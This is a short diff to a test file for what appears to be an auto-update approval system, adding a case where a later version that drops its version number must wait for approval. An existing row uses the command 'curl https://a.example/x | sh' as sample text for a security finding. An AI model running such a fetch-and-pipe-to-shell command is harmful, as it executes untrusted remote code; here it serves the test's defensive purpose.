@@ -80,6 +80,7 @@ describe('a later version', () => {
   test.each([
     ['asks for more', sidecar({ ...plain, network: ['a.example'] }, '1.1.0'), ''],
     ['has a lower version number', sidecar(plain, '0.9.0'), ''],
+    ['no longer has a version number', JSON.stringify({ run: JSON.parse(sidecar(plain)).run }), ''],
     ['has more findings', sidecar(plain, '1.1.0'), 'curl https://a.example/x | sh'],
   ])('waits however old it is if it %s', async (_, yaml, text) => {
     const { add, approve, write, update, wait, inForce } = await project({ updates: 'auto' });
